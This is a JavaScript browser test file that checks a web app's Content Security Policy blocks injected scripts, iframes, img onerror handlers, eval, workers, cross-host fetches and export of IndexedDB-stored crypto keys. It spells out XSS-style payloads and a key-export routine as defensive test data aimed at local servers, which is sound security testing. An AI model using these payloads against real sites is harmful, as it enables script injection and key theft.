// What somebody could do who gets markup or a script into the page.

import { createServer } from "node:http";
import { once } from "node:events";

import { until } from "./chromium.mjs";
import { enrollByPin, equal } from "./steps.mjs";

/** Evaluates as the page's own code would: DevTools may otherwise eval what the policy forbids. */
async function asThePage(tab, expression) {
  const options = { expression, awaitPromise: true, returnByValue: true, allowUnsafeEvalBlockedByCSP: false };
  const { result, exceptionDetails } = await tab.send("Runtime.evaluate", options);
  return exceptionDetails ? (exceptionDetails.exception?.className ?? exceptionDetails.text) : result.value;
}

export const tests = {
  async "attack: scripts and frames put into the page on its way do not run, and the page works"({
    browser,
    provider,
  }) {
    const elsewhere = createServer((_, response) => {
      response.setHeader("content-type", "text/javascript");
      response.end("globalThis.stolen = 2");
    }).listen(0, "127.0.0.1");
    await once(elsewhere, "listening");
    const foreign = `http://127.0.0.1:${elsewhere.address().port}`;
    const markup = [
      "<script>globalThis.stolen = 1</script>",
      `<script src="${foreign}/theft.js"></script>`,
      `<script src="data:text/javascript,globalThis.stolen = 3"></script>`,
      `<img src="${foreign}/seen.png" onerror="globalThis.stolen = 4" onload="globalThis.stolen = 5" />`,
      `<base href="${foreign}/" />`,
      `<iframe src="${foreign}/"></iframe>`,
    ];
    provider.injected = markup.join("");
    // The picture is blocked, and both its handlers.
    browser.violationsMeant = markup.length + 2;
    const tab = await enrollByPin(browser, provider, "alice");
    equal(await tab.evaluate("globalThis.stolen ?? null"), null, "what ran");
    elsewhere.close();
  },

  async "attack: code in the page makes no script of text, reaches no other host, and exports no key"({
    browser,
    provider,
  }) {
    const foreign = createServer((_, response) => response.end()).listen(0, "127.0.0.1");
    await once(foreign, "listening");
    const host = `http://127.0.0.1:${foreign.address().port}`;
    const tab = await enrollByPin(browser, provider, "alice");
    const refused = {
      "an inline script": `void (document.createElement("script").textContent = "globalThis.stolen = 1")`,
      "a script's address": `void (document.createElement("script").src = "${host}/theft.js")`,
      markup: `void (document.body.innerHTML = "<img src=x onerror=alert()>")`,
      eval: `eval("globalThis.stolen = 2")`,
      "a function of text": `new Function("globalThis.stolen = 3")()`,
      "a worker": `void new Worker("${host}/worker.js")`,
    };
    for (const [what, expression] of Object.entries(refused)) {
      const found = await asThePage(tab, expression);
      if (!["TypeError", "EvalError", "SecurityError", "DOMException"].includes(found))
        throw new Error(`${what}: ${found}`);
    }
    const sent = `fetch("${host}/?key", { mode: "no-cors" }).then(() => "sent", ({ name }) => name)`;
    equal(await asThePage(tab, sent), "TypeError", "a call to another host");
    equal(await tab.evaluate("globalThis.stolen ?? null"), null, "what ran");
    const keys = `(async () => {
      const open = indexedDB.open("countersign");
      await new Promise((resolve) => (open.onsuccess = resolve));
      const all = open.result.transaction("keys").objectStore("keys").getAll();
      await new Promise((resolve) => (all.onsuccess = resolve));
      const found = [];
      for (const key of all.result.filter((key) => key instanceof CryptoKey)) {
        for (const format of ["raw", "jwk", "pkcs8"]) {
          found.push(await crypto.subtle.exportKey(format, key).then(() => "out", ({ name }) => name));
        }
      }
      return [...new Set(found)].sort();
    })()`;
    const found = await tab.evaluate(keys);
    if (found.length === 0 || found.includes("out")) throw new Error(`what exporting keys gives: ${found}`);
    browser.violationsMeant = await until(
      "violations are told",
      () => tab.violations.length >= 6 && tab.violations.length,
    );
    foreign.close();
  },
};
